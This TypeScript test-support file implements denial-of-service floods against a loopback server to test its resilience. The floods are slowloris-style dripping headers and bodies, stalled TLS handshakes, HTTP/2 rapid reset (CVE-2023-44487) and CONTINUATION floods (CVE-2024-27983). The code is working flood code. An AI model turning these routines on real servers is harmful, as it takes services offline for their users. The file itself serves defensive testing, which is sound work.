/**
 * What clients do that want to keep a server from serving others. Each flood goes to loopback and ends by itself.
 */
import { connect as connectHttp2, constants } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { FLAG, fields, frame, number, RawHttp2, requestFields, TYPE } from '../support/http2-frames.ts'

/** How long a flood lasts at least when it has begun, in milliseconds. */
const DURATION = Number(process.env.FLOOD_MILLIS ?? 1_000)
/** How long it lasts if it has sent too little by then. */
const LONGEST = 20_000

/** Connections that are opened at the same time. */
const AT_ONCE = 50

const NO_SETTINGS = Buffer.alloc(0)
const JWKS = '/.well-known/openid-configuration/jwks'

/** What has left the process that floods. */
export interface Sent {
  /** Those that were opened. */
  readonly connections: number
  /** Requests, frames, or parts of one, that the system has taken. */
  readonly pieces: number
}

/** A flood, and what it sends at least, for which it goes on on a slow machine. Less is no flood. */
interface Flood {
  readonly least: Sent
  send(port: number, least: Sent): Promise<Sent>
}

const DRIPPING = 1_000
/** Some may be refused or lost. */
const MOST_OF_THEM = 900

/** Floods of HTTP/1.1 and of what is below it. */
const HTTP1_FLOODS: Readonly<Record<string, Flood>> = {
  'heads that come a byte at a time': {
    least: { connections: MOST_OF_THEM, pieces: 2 * MOST_OF_THEM },
    send: (port, least) => drip(port, least, 'GET / HTTP/1.1\r\nhost: x\r\n', 'a'),
  },
  'bodies that come a byte at a time': {
    least: { connections: MOST_OF_THEM, pieces: 2 * MOST_OF_THEM },
    send: (port, least) =>
      drip(
        port,
        least,
        'POST /oauth/v2/token HTTP/1.1\r\nhost: x\r\ncontent-length: 60000\r\ncontent-type: application/x-www-form-urlencoded\r\n\r\n',
        'a',
      ),
  },
  'requests that stop half way, by clients that do not read': {
    least: { connections: MOST_OF_THEM, pieces: MOST_OF_THEM },
    send: (port, least) =>
      drip(port, least, `${`GET ${JWKS} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(50)}GET / HT`, '', { reads: false }),
  },
}

/** Floods of HTTP/2. */
const HTTP2_FLOODS: Readonly<Record<string, Flood>> = {
  'requests that it takes back at once (CVE-2023-44487)': {
    least: { connections: 4, pieces: 1_000 },
    send: (port, least) =>
      frames(port, least, (i) =>
        Buffer.concat([get(2 * i + 1), frame(TYPE.reset, 0, 2 * i + 1, number(constants.NGHTTP2_CANCEL))]),
      ),
  },
  'a head that does not end (CVE-2024-27983)': {
    least: { connections: 20, pieces: 1_000 },
    send: (port, least) =>
      frames(port, least, (i) =>
        i === 0
          ? frame(TYPE.headers, 0, 1, requestFields('GET'))
          : frame(TYPE.continuation, 0, 1, fields([['a', 'b']])),
      ),
  },
  'requests of a well-formed client that never reads': {
    least: { connections: 1, pieces: 50 },
    send: async (port, least) => {
      let [connections, pieces] = [0, 0]
      const again = async () => {
        const session = connectHttp2(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 } })
        session.on('error', () => {})
        session.once('connect', () => {
          connections += 1
        })
        for (let i = 0; i < 100; i += 1) {
          const request = session.request({ ':path': JWKS }).on('error', () => {})
          // The head of an answer needs no window.
          request.once('response', () => {
            pieces += 1
          })
        }
        await delay(500)
        session.destroy()
      }
      await untilOver(again, () => connections >= least.connections && pieces >= least.pieces)
      return { connections, pieces }
    },
  },
}

/** Of a port without TLS. */
export const CLEARTEXT_FLOODS = { ...HTTP1_FLOODS, ...HTTP2_FLOODS }

/** Of a port with TLS. */
export const TLS_FLOODS: Readonly<Record<string, Flood>> = {
  'handshakes that never finish': {
    least: { connections: MOST_OF_THEM, pieces: MOST_OF_THEM },
    // The head of a record that promises more: a ClientHello of 512 bytes.
    send: (port, least) => drip(port, least, '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', ''),
  },
}

/** Every flood by its name. */
export const FLOODS: Readonly<Record<string, Flood>> = { ...CLEARTEXT_FLOODS, ...TLS_FLOODS }

/** Many connections that begin with a text and send a little more now and then. */
async function drip(port: number, least: Sent, start: string, more: string, { reads = true } = {}): Promise<Sent> {
  const sockets = await openSockets(port, DRIPPING)
  let pieces = 0
  const write = (socket: Socket, text: string) => {
    if (text === '' || !socket.writable) return
    socket.write(text, 'latin1', (error) => {
      if (!error) pieces += 1
    })
  }
  for (const socket of sockets) {
    if (reads) socket.resume()
    else socket.pause()
    write(socket, start)
  }
  const again = async () => {
    for (const socket of sockets) write(socket, more)
    await delay(200)
  }
  await untilOver(again, () => pieces >= least.pieces)
  for (const socket of sockets) socket.destroy()
  return { connections: sockets.length, pieces }
}

/** Frames as fast as they go, on a few connections, each replaced when the server closes it. */
async function frames(
  port: number,
  least: Sent,
  next: (i: number) => Buffer,
  { settings = NO_SETTINGS }: { readonly settings?: Uint8Array } = {},
): Promise<Sent> {
  let [connections, pieces] = [0, 0]
  const one = () => {
    const again = async () => {
      const raw = await RawHttp2.connect(port, settings)
      connections += 1
      raw.send(frame(TYPE.settings, FLAG.ack, 0))
      pieces += await raw.sendUntilClosed(5_000, next)
      raw.socket.destroy()
      // What was received is of no interest, and would be kept.
      raw.frames.length = 0
      await delay(5)
    }
    return untilOver(again, () => connections >= least.connections && pieces >= least.pieces)
  }
  await Promise.all([one(), one(), one(), one()])
  return { connections, pieces }
}

function get(stream: number): Buffer {
  return frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream, requestFields('GET', JWKS))
}

/** Opens so many connections, and returns those that were taken. */
async function openSockets(port: number, count: number): Promise<Socket[]> {
  const sockets: Socket[] = []
  for (let tried = 0; tried < count; tried += AT_ONCE) {
    const some = Array.from({ length: Math.min(AT_ONCE, count - tried) }, () => connect(port, '127.0.0.1'))
    await Promise.all(some.map(untilSettled))
    sockets.push(...some.filter((socket) => !socket.destroyed))
  }
  return sockets
}

function untilSettled(socket: Socket): Promise<unknown> {
  socket.on('error', () => {})
  return new Promise((resolve) => socket.once('connect', resolve).once('close', resolve))
}

async function untilOver(again: () => Promise<void>, isEnough: () => boolean): Promise<void> {
  const begun = performance.now()
  const isOver = (elapsed: number) => elapsed > LONGEST || (elapsed > DURATION && isEnough())
  do await again()
  while (!isOver(performance.now() - begun))
}
